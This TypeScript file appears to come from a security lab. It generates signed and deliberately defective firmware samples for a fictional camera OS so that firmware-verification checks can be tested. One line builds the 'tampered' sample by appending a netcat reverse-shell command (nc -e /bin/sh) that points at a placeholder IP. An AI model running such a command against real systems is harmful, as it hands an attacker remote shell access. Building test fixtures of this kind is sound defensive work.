// Generates the factory OS image and the lab firmware samples, signed with the TEST KEYS in ../test-keys.
// Usage: tsx labs/images/firmware/generate-firmware-samples.ts <outDir>
import fs from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { buildFirmware, tamperFirmware, type FirmwareComponent, type FirmwareHeader } from "../shared/firmware-format";

export const KEYS_DIR = fileURLToPath(new URL("../test-keys/", import.meta.url));
export const FACTORY_VERSION = "11.11.73";
export const REVOKED_VERSIONS = ["11.11.80"];

const c = (name: string, version: string, supplier: string, license: string, type = "generic"): FirmwareComponent => ({
  name,
  version,
  supplier,
  license,
  purl: `pkg:${type}/${name}@${version}`,
});

/** Software inside each CamOS release (what the SBOM lists and advisories are matched against). */
export function componentsFor(version: string): FirmwareComponent[] {
  const fixed = version === "11.11.94" || version.startsWith("12.");
  return [
    c("linux", fixed ? "6.1.112" : "6.1.55", "The Linux Foundation", "GPL-2.0-only"),
    c("glibc", "2.36", "GNU Project", "LGPL-2.1-or-later"),
    c("openssl", fixed ? "3.0.15" : "3.0.11", "OpenSSL Software Foundation", "Apache-2.0"),
    c("openssh", fixed ? "9.8p1" : "9.3p2", "OpenBSD Project", "BSD-2-Clause"),
    c("curl", fixed ? "8.10.1" : "8.4.0", "curl project", "curl"),
    c("busybox", "1.36.1", "BusyBox", "GPL-2.0-only"),
    c("zlib", fixed ? "1.3.1" : "1.2.13", "zlib project", "Zlib"),
    c("libjpeg-turbo", "2.1.5", "libjpeg-turbo project", "BSD-3-Clause"),
    c("gstreamer", "1.22.6", "GStreamer project", "LGPL-2.1-or-later"),
    c("avahi", "0.8", "Avahi project", "LGPL-2.1-or-later"),
    c("miniupnpd", "2.3.3", "MiniUPnP project", "BSD-3-Clause"),
    c("camos-web", version, "Cyberwall Devices", "LicenseRef-Cyberwall-Proprietary"),
    // ONVIF device/media services and WS-Discovery: a network-facing component of its own
    c("camos-onvif", version, "Cyberwall Devices", "LicenseRef-Cyberwall-Proprietary"),
  ];
}

type Meta = Omit<FirmwareHeader, "format" | "payloadSize" | "payloadSha256">;
export function releaseHeader(model: string, version: string): Meta {
  const major = Number(version.split(".")[0]);
  return {
    product: "CamOS",
    model,
    version,
    track: major === 11 ? "LTS" : "active",
    endOfSupport: major === 11 ? "2029-12-31" : "2026-12-31",
    buildDate: major === 11 && version === FACTORY_VERSION ? "2025-03-14T09:12:00Z" : "2025-10-02T08:00:00Z",
    components: componentsFor(version),
  };
}

export function signer(keysDir = KEYS_DIR) {
  const read = (f: string) => fs.readFileSync(path.join(keysDir, f), "utf8");
  return { keyPem: read("firmware-signing.key.pem"), chain: [read("firmware-signing.pem"), read("vendor-intermediate.pem")] };
}

const fakeOs = (model: string, version: string) => Buffer.from(`CamOS ${version} for ${model}\n` + "squashfs-image-bytes ".repeat(2048));

/** The OS image a camera ships with: its payload is the camera program itself. */
export function factoryFirmware(model: string, payload: Buffer, keysDir = KEYS_DIR): Buffer {
  return buildFirmware(releaseHeader(model, FACTORY_VERSION), payload, signer(keysDir));
}

export function generateFirmwareSamples(outDir: string, model = "CW-P3265", keysDir = KEYS_DIR): string[] {
  fs.mkdirSync(outDir, { recursive: true });
  const s = signer(keysDir);
  const signed = (m: string, v: string) => buildFirmware(releaseHeader(m, v), fakeOs(m, v), s);
  const genuine = signed(model, "11.11.94");
  const files: Record<string, Buffer> = {
    [`${model}-11.11.94.cwfw`]: genuine,
    [`${model}-11.11.94-tampered.cwfw`]: tamperFirmware(genuine, (p) =>
      Buffer.concat([p, Buffer.from("\n#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n")]),
    ),
    [`${model}-11.11.94-unsigned.cwfw`]: buildFirmware(releaseHeader(model, "11.11.94"), fakeOs(model, "11.11.94")),
    [`${model}-11.11.94-corrupt.cwfw`]: genuine.subarray(0, Math.floor(genuine.length * 0.6)),
    [`${model}-11.5.64.cwfw`]: signed(model, "11.5.64"),
    [`${model}-11.11.80.cwfw`]: signed(model, "11.11.80"),
    ["CW-Q1805-12.0.1.cwfw"]: signed("CW-Q1805", "12.0.1"),
  };
  for (const [name, data] of Object.entries(files)) fs.writeFileSync(path.join(outDir, name), data);
  fs.writeFileSync(
    path.join(outDir, "README.txt"),
    [
      `Firmware samples for ${model} (factory version ${FACTORY_VERSION}). Inspect with: fw-inspect <file>`,
      `${model}-11.11.94.cwfw           genuine upgrade (LTS), signed by the vendor`,
      `${model}-11.11.94-tampered.cwfw  payload modified after signing (checksum fixed, signature kept)`,
      `${model}-11.11.94-unsigned.cwfw  no signature at all`,
      `${model}-11.11.94-corrupt.cwfw   truncated download`,
      `${model}-11.5.64.cwfw            genuine but older: a downgrade`,
      `${model}-11.11.80.cwfw           genuine but revoked by the vendor`,
      `CW-Q1805-12.0.1.cwfw             genuine, for another model`,
      "",
    ].join("\n"),
  );
  return Object.keys(files);
}

if (process.argv[1] && fileURLToPath(import.meta.url) === path.resolve(process.argv[1])) {
  const out = process.argv[2] ?? "firmware-samples";
  console.log(
    generateFirmwareSamples(out)
      .map((f) => path.join(out, f))
      .join("\n"),
  );
}
